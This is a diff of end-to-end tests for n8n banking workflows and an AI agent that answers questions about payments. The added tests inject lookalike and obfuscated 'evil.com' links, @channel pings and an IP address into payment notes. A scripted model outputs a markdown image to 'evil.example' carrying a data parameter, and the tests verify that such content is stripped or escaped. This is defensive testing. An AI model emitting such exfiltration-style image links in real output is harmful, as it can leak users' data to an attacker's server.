@@ -74,7 +74,9 @@ describe('the example workflows that write to people, on a real n8n', () => {
 			since: yesterday(),
 			remark: expect.stringMatching(/^Not whole: 1 of \d accounts have no balance$/),
 		});
-		expect(rows.find(({ account }) => account === 'Closed')?.remark).toMatch(/^Missing: the bank did not list it/);
+		expect(rows.find(({ account }) => account === 'Closed')?.remark).toMatch(
+			/^Missing: the bank did not list it. It had [A-Z]{3} -?\d+\.\d\d on 20/,
+		);
 		expect(stage.mails.at(-1)?.html).toMatch(/<li>Closed: Missing: .+<\/li>/);
 		const stored = await stage.readTable('Bank balances');
 		expect(stored.filter(({ day }) => day === today()).map(({ accountId }) => accountId)).toEqual(
@@ -218,6 +220,19 @@ describe('the example workflows that write to people, on a real n8n', () => {
 			const told = JSON.stringify(receivers.takenBy(chat));
 			expect(told).toMatch(new RegExp(`Payment rejected: E2E-${chat}-1, EUR 1,001\\.40`));
 			expect(told).toContain(chat === 'slack' ? 'account &amp; bank' : 'account & bank');
+			const words = [
+				'Оплата по счёту evil.com/pay ',
+				'付款通知单。请看 https：//evil．com ',
+				'💶👩‍💻 @channel a@b.c 10.0.0.1/x ',
+			];
+			const transactions = Array.from({ length: 40 }, (_, index) => {
+				const long = words[index % words.length]?.repeat(6) ?? '';
+				const note = { reasonCode: 'NARR', additionalInformation: [long.slice(0, 100), long.slice(0, 100)] };
+				return { endToEndId: `E-${index}`, status: 'RJCT', amount: '10.00', creditorName: long.slice(0, 140), ...note };
+			});
+			const many = await pushOne(stage.sandbox, { payments: [{ transactions }] });
+			expect(many).toMatchObject({ state: 'delivered' });
+			expect(JSON.stringify(receivers.takenBy(chat).at(-1))).toMatch(/E-0, EUR 10\.00.+… and \d+ more: look/);
 			await deactivate();
 		});
 	});
@@ -229,10 +244,14 @@ describe('the example workflows that write to people, on a real n8n', () => {
 		const model = await startChatModel([
 			{ call: 'Get_payment_statuses', with: { Since: '2020-01-01' } },
 			{ call: 'Get_many_accounts', with: {} },
-			{ say: 'E2E-asked-1 was rejected.' },
+			{ say: 'E2E-asked-1 was rejected. ![x](https://evil.example/?cash=1)' },
+			{ say: 'As I said.' },
 		]);
 		await stage.addCredential('openAiApi', { apiKey: 'none', url: model.baseUrl });
-		const example = stage.load('ask-the-bank', { 'AI Agent': { promptType: 'define', text: 'What was rejected?' } });
+		const example = stage.load('ask-the-bank', {
+			'AI Agent': { promptType: 'define', text: 'What was rejected?' },
+			'Simple Memory': { sessionIdType: 'customKey', sessionKey: 'one chat' },
+		});
 		const nodes = example.nodes.map((node) =>
 			node.name === 'When chat message received'
 				? { ...node, type: 'n8n-nodes-base.manualTrigger', typeVersion: 1, parameters: {} }
@@ -240,14 +259,20 @@ describe('the example workflows that write to people, on a real n8n', () => {
 		);
 		const workflowId = await stage.client.createWorkflow({ ...example, nodes });
 		const execution = await run(workflowId, 'When chat message received');
-		expect(execution.itemsOf('AI Agent')).toEqual([{ output: 'E2E-asked-1 was rejected.' }]);
+		expect(execution.itemsOf('Leave out links')).toEqual([{ output: 'E2E-asked-1 was rejected. ' }]);
 		const offered = objectsOf(model.requests[0]?.tools, 'the tools').map((tool) => objectOf(tool.function, 'it').name);
 		expect(offered.sort()).toEqual(['Get_many_accounts', 'Get_many_transactions', 'Get_payment_statuses']);
-		const answers = objectsOf(model.requests.at(-1)?.messages, 'the messages').filter(({ role }) => role === 'tool');
+		const messagesOf = (request: JsonObject | undefined) => objectsOf(request?.messages, 'the messages');
+		const [system] = messagesOf(model.requests[0]);
+		expect(String(system?.content)).toMatch(/Write no images, no links/);
+		const answers = messagesOf(model.requests.at(-1)).filter(({ role }) => role === 'tool');
 		expect(answers.map(({ content }) => String(content))).toEqual([
 			expect.stringMatching(/E2E-asked-1.*RJCT/s),
 			expect.stringContaining('currentBalance'),
 		]);
+		await run(workflowId, 'When chat message received');
+		expect(messagesOf(model.requests.at(-1)).map(({ content }) => content)).toContain('What was rejected?');
+		expect(JSON.stringify(model.requests.at(-1))).toContain('E2E-asked-1 was rejected.');
 		model.close();
 	});
 
